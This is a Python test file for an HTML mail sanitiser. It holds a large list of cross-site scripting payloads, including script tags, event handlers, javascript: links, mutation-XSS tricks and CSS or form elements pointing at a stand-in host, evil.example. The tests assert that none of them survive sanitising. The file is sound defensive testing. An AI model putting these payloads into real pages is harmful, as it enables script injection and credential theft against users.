"""HTML from strangers, shown to Ada: nothing runs, nothing loads, links say where they go."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpline.mail.parsing.html import sanitise, text_of_html

XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0d\x0a>alert(1)</script\x09>",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert`1`>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x OnErRoR = 'alert(1)'>",
    '<img src="x`onerror=alert(1)">',
    "<img \x00src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="https://evil.example/a 1x" src=x>',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="blob:https://desk.example/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="/logout">x</a>',
    '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>',
    "<a onclick=alert(1) href=https://ok.example>x</a>",
    "<a href=https://ok.example style='position:fixed;top:0;left:0;width:100%;height:100%'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=evil></applet>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/p)}</style>",
    "<div style='background-image:url(https://evil.example/p)'>x</div>",
    "<div style='background-color:u\\72l(https://evil.example/p)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    "<div style='-moz-binding:url(x.xml#x)'>x</div>",
    "<div style=\"list-style-type:url('https://evil.example/p')\">x</div>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea><script>alert(1)</script></textarea>",
    "<select><option><script>alert(1)</script></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio><source onerror=alert(1)></audio>",
    "<video poster=javascript:alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<table background=javascript:alert(1)><tr><td background=https://evil.example/p>x</table>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
    "<template><img src=x onerror=alert(1)></template>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><script>alert(1)</script><!-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<p id=login name=login class=modal data-remote-src=javascript:alert(1) x-on:click=alert(1) hx-get=/logout @click=alert(1)>x</p>",
    "<p style='margin-top:-500px;position:absolute;z-index:9999'>x</p>",
    "<img src='https://evil.example/\"><script>alert(1)</script>'>",
    "<a href='https://evil.example/\"><script>alert(1)</script>'>x</a>",
    "<a href='https://evil.example;\" onmouseover=\"alert(1)'>x</a>",
    "\u003cimg src=x onerror=alert(1)\u003e",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    '<a href="https://e.example" data-host="bank.example" data-misleading="">x</a>',
]
ATTRIBUTES = frozenset(
    [
        "href",
        "src",
        "alt",
        "style",
        "dir",
        "lang",
        "class",
        "type",
        "color",
        "size",
        "face",
        "align",
        "valign",
        "border",
        "cellpadding",
        "cellspacing",
        "bgcolor",
        "colspan",
        "rowspan",
        "width",
        "height",
        "start",
        "rel",
        "target",
        "data-host",
        "data-misleading",
        "data-remote-src",
        "data-quote-below",
    ]
)
FORBIDDEN = frozenset(
    [
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "svg",
        "math",
        "form",
        "input",
        "link",
        "meta",
        "base",
        "template",
        "body",
        "html",
        "video",
    ]
)


class Auditor(HTMLParser):
    """Reads what would be put into the page, and objects."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in FORBIDDEN
        for name, value in attrs:
            assert name in ATTRIBUTES
            self._value(name, value or "")
        self.found.append((tag, dict(attrs)))

    def _value(self, name: str, value: str) -> None:
        if name == "href":
            assert re.match(r"(https?://|mailto:|tel:)", value)
        if name == "src":
            assert re.match(r"(/own/|data:image/(png|gif|jpeg|webp);base64,)", value)
        if name == "data-remote-src":
            assert re.match(r"https?://", value)
        if name == "class":
            assert value == "mail-quote"
        if name == "style":
            assert not re.search(r"(?i)url|expression|position|:\s*-|\\", value)


def audited(html: str) -> list[tuple[str, dict[str, str | None]]]:
    auditor = Auditor()
    auditor.feed(html)
    auditor.close()
    return auditor.found


def test_the_corpus_is_large_enough() -> None:
    assert len(set(XSS)) >= 60


@pytest.mark.parametrize("vector", XSS)
def test_nothing_runs_and_nothing_loads(vector: str) -> None:
    for around in (
        vector,
        f"<div><p>before {vector} after</p></div>",
        f"<table><tr><td>{vector}",
        f"<b>{vector}</b>",
    ):
        audited(sanitise(around).html)


@given(
    st.lists(
        st.sampled_from([*XSS, "<p>", "</p>", '"', "'", "<", ">", "<!--", "-->", "<table>", "</style>"]),
        max_size=6,
    ).map("".join)
)
def test_no_mixture_runs_either(html: str) -> None:
    audited(sanitise(html).html)


@given(st.text(alphabet="<>\"'=&;:/- abhrefimgscron\n", max_size=80))
def test_no_rubbish_runs_either(html: str) -> None:
    audited(sanitise(html).html)
    text_of_html(html)


def test_remote_pictures_wait_for_a_click() -> None:
    shown = sanitise(
        '<p>a<img src="http://ads.example/p.gif?u=1&amp;v=2" width=1 height=1><img src="//cdn.example/b.png"></p>'
    )
    assert shown.remote_images == 2
    pictures = [attributes for tag, attributes in audited(shown.html) if tag == "img"]
    assert [one.get("data-remote-src") for one in pictures] == [
        "http://ads.example/p.gif?u=1&v=2",
        "https://cdn.example/b.png",
    ]
    assert all("src" not in one for one in pictures)


def test_pictures_of_the_mail_are_shown_in_place() -> None:
    shown = sanitise('<img src="cid:a@x"><img src="cid:gone@x">', {"a@x": "/own/1"}.get)
    assert [attributes.get("src") for _tag, attributes in audited(shown.html)] == ["/own/1", None]
    assert shown.remote_images == 0


def test_links_show_where_they_go() -> None:
    shown = sanitise('<a href="https://evil.example/login?a=1&amp;b=2">https://www.bank.example</a>')
    ((_tag, link),) = audited(shown.html)
    assert link["href"] == "https://evil.example/login?a=1&b=2"
    assert link["data-host"] == "evil.example"
    assert link["data-misleading"] == "true"
    assert link["rel"] == "noopener noreferrer nofollow"
    assert link["target"] == "_blank"


@pytest.mark.parametrize(
    ("href", "text", "host", "misleading"),
    [
        ("https://www.bank.example/a", "bank.example", "www.bank.example", False),
        ("https://login.bank.example", "https://bank.example/a", "login.bank.example", False),
        ("https://bank.example.evil.example", "bank.example", "bank.example.evil.example", True),
        ("https://bank.example@evil.example/", "bank.example", "evil.example", True),
        ("mailto:carl@x.example?subject=a", "write", "carl@x.example", False),
        ("https://x.example", "click here", "x.example", False),
    ],
)
def test_hosts_of_links(href: str, text: str, host: str, misleading: bool) -> None:
    ((_tag, link),) = audited(sanitise(f'<a href="{href}">{text}</a>').html)
    assert link["data-host"] == host
    assert ("data-misleading" in link) is misleading


def test_a_link_that_is_no_address_goes_nowhere() -> None:
    ((_tag, link),) = audited(sanitise('<a href="http://[::1">x</a>').html)
    assert "href" not in link


def test_formatting_stays() -> None:
    html = '<p style="color:red;margin:0cm">a <b>b</b> <font color="#ff0000">c</font></p>'
    html += '<ul><li>d</li></ul><table border="1"><tbody><tr><td>e</td></tr></tbody></table>'
    shown = sanitise(html).html
    assert "color:red" in shown
    assert "<b>b</b>" in shown
    assert '<font color="#ff0000">c</font>' in shown
    assert "<li>d</li>" in shown
    assert '<table border="1">' in shown


def test_quotations_of_webmail_can_be_folded() -> None:
    assert 'class="mail-quote"' in sanitise('<div class="gmail_quote x">old</div>').html
    assert "class" not in sanitise('<div class="btn modal">x</div>').html
    outlook = sanitise(
        'new<div id="appendonsend"></div><hr><div id="divRplyFwdMsg" dir="ltr">From: A</div><div id="login">x</div>'
    ).html
    assert outlook.count('data-quote-below="true"') == 2
    assert "id=" not in outlook


@pytest.mark.parametrize(
    "html",
    [
        "".join(f"<b class=c{number}>" for number in range(20_000)) + "<p>" * 20_000 + "end",
        "<div>" * 100_000 + "end",
        "<a " * 100_000 + "end",
        "<!--" * 100_000 + "end",
        '<p title="' * 100_000 + "end",
        "<table><tr><td>" * 20_000 + "end",
        "x" * 3_000_000,
    ],
)
def test_tangled_html_costs_little(html: str) -> None:
    started = time.process_time()
    audited(sanitise(html).html[:100_000])
    text_of_html(html)
    assert time.process_time() - started < 5


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>one</p><p>two</p>", "one\n\ntwo\n"),
        ("one<br>two<br/><br>three", "one\ntwo\n\nthree\n"),
        ("<div>one</div><div>two</div>", "one\ntwo\n"),
        ("<ul><li>a</li><li>b</li></ul>", "- a\n- b\n"),
        ("a &amp; b &lt;c&gt; &euro; &nbsp;d", "a & b <c> €  d\n"),
        ('see <a href="https://x.example/a">the page</a>.', "see the page <https://x.example/a>.\n"),
        ('<a href="https://x.example/">https://x.example</a>', "https://x.example\n"),
        ('<a href="mailto:c@x.example">c@x.example</a>', "c@x.example\n"),
        ("<blockquote>old<blockquote>older</blockquote></blockquote>new", "> old\n>\n> > older\n\nnew\n"),
        ("<pre>a\n  b\n\nc</pre>", "a\n  b\n\nc\n"),
        ("<style>p{}</style><title>t</title>x<script>y</script>", "x\n"),
        ("a < b and c > d", "a < b and c > d\n"),
        ('<p title="a>b">x</p>', "x\n"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>", "a b\nc\n"),
        ("", ""),
    ],
)
def test_html_as_text(html: str, text: str) -> None:
    assert text_of_html(html) == text
